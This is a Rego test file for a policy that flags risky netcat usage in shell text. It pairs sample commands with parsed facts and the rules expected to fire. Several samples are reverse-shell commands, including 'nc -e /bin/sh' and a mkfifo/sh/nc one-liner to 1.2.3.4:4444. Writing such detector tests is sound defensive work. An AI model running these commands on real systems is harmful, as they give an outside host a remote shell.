package regent.program.nc_test

import data.regent.fact_test as fact
import data.regent.program.nc as room

# What stands in the shell text, its facts as far as the rules look at them, and
# the rules that fire.
cases := {
	"nc -e /bin/sh host.example.com 1": [{"commands": [{"program": "nc", "options": [["-e", "/bin/sh"]], "operands": ["host.example.com", "1"]}, {"program": "sh"}]}, {"nc.connects", "nc.runs"}],
	"nc host.example.com 80": [{"commands": [{"program": "nc", "operands": ["host.example.com", "80"]}]}, {"nc.connects"}],
	"nc -l 8080": [{"commands": [{"program": "nc", "options": [["-l", ""]], "operands": ["8080"]}]}, {"nc.connects"}],
	"nc -z localhost 80": [{"commands": [{"program": "nc", "options": [["-z", ""]], "operands": ["localhost", "80"]}], "endpoints": [{"role": "target", "host": "localhost", "loopback": true}]}, set()],
	"ncat --sh-exec id host.example.com 80": [{"commands": [{"program": "nc", "options": [["-c", "id"]], "operands": ["host.example.com", "80"]}, {"program": "id"}]}, {"nc.connects", "nc.runs"}],
	"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 4444 > /tmp/f": [{"commands": [{"program": "mkfifo", "operands": ["/tmp/f"]}, {"program": "cat", "operands": ["/tmp/f"], "fed_by": [0]}, {"program": "sh", "options": [["-i", ""]], "fed_by": [1]}, {"program": "nc", "operands": ["1.2.3.4", "4444"], "fed_by": [2]}], "tags": {"pipes_into_interpreter": [2]}}, {"nc.connects", "nc.shell"}],
	"nc --help": [{"commands": [{"program": "nc", "options": [["--help", ""]], "help_only": true}]}, set()],
}

test_rules[text] if {
	some text, [facts, fires] in cases
	{f.rule | some f in room.findings} == fires with input as fact.document(facts)
}
